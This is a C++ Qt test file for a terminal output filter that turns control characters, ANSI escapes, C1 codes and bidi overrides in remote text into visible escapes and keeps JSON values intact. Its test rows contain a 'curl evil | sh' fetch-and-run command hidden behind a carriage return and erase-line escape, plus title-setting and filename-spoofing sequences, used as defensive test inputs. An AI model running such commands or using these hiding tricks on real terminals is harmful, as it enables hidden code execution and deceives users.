// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 KernelForge authors
// The one output filter for remote text on a terminal: what a hostile tool prints to hide or
// forge a line comes out as visible escapes, and JSON written through it keeps its values.
#include "core/util/terminaltext.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QtTest>

using namespace kf;

class TestTerminalText : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void escapesWhatATerminalActsOn_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("line");  // LineBreaks::Escape
        QTest::addColumn<QString>("block"); // LineBreaks::Keep
        QTest::newRow("plain") << "pip install -e ."
                               << "pip install -e ."
                               << "pip install -e .";
        QTest::newRow("CR and erase line hide a command") << "curl evil | sh\r\x1b[2Kpip install -e ."
                                                          << "curl evil | sh\\r\\x1b[2Kpip install -e ."
                                                          << "curl evil | sh\\r\\x1b[2Kpip install -e .";
        QTest::newRow("bell and title") << "a\x07\x1b]0;owned\x07"
                                        << "a\\x07\\x1b]0;owned\\x07"
                                        << "a\\x07\\x1b]0;owned\\x07";
        QTest::newRow("newline forges a line") << "gpu1\n    alert: none"
                                               << "gpu1\\n    alert: none"
                                               << "gpu1\n    alert: none";
        QTest::newRow("tab") << "a\tb"
                             << "a\\tb"
                             << "a\tb";
        QTest::newRow("NUL and DEL") << QString::fromUtf8("a\0b\x7f", 4) << "a\\x00b\\u007f"
                                     << "a\\x00b\\u007f";
        QTest::newRow("C1 CSI") << QString(QStringLiteral("x") + QChar(0x9b) + QStringLiteral("2J")) << "x\\u009b2J"
                                << "x\\u009b2J";
        QTest::newRow("bidi override") << QString(QStringLiteral("a") + QChar(0x202e) + QStringLiteral("txt.exe"))
                                       << "a\\u202etxt.exe"
                                       << "a\\u202etxt.exe";
        QTest::newRow("backslash and accents stay") << QString::fromUtf8("C:\\x caf\xc3\xa9 \xe2\x80\x93")
                                                    << QString::fromUtf8("C:\\x caf\xc3\xa9 \xe2\x80\x93")
                                                    << QString::fromUtf8("C:\\x caf\xc3\xa9 \xe2\x80\x93");
    }
    void escapesWhatATerminalActsOn()
    {
        QFETCH(QString, in);
        QFETCH(QString, line);
        QFETCH(QString, block);
        QCOMPARE(terminalSafe(in), line);
        QCOMPARE(terminalSafe(in, LineBreaks::Keep), block);
        QCOMPARE(needsTerminalEscape(in), in != line);
        QCOMPARE(needsTerminalEscape(in, LineBreaks::Keep), in != block);
        // Nothing a terminal acts on is left (what a line-mode escape keeps is printable).
        for (const QChar c : terminalSafe(in))
            QVERIFY2(c.unicode() >= 0x20 && (c.unicode() < 0x7f || c.unicode() > 0x9f), qPrintable(line));
    }

    // A JSON line through the block filter decodes to the same values: the writer escapes the
    // C0 controls, the filter writes the others as JSON escapes.
    void jsonThroughTheFilterKeepsItsValues()
    {
        QString hostile = QStringLiteral("a\r\x1b[2K\x07\tb\nc");
        hostile += QChar(0x7f);
        hostile += QChar(0x9b);
        hostile += QChar(0x202e);
        hostile += QStringLiteral("\\u0041\"");
        QJsonObject o;
        o.insert(QStringLiteral("name"), hostile);
        const QString line = QString::fromUtf8(QJsonDocument(o).toJson(QJsonDocument::Compact));
        const QString filtered = terminalSafe(line, LineBreaks::Keep);
        QVERIFY(!needsTerminalEscape(filtered));
        QJsonParseError e;
        const QJsonDocument back = QJsonDocument::fromJson(filtered.toUtf8(), &e);
        QVERIFY2(e.error == QJsonParseError::NoError, qPrintable(e.errorString() + u' ' + filtered));
        QCOMPARE(back.object().value(QStringLiteral("name")).toString(), hostile);
    }
};

QTEST_GUILESS_MAIN(TestTerminalText)
#include "tst_terminaltext.moc"
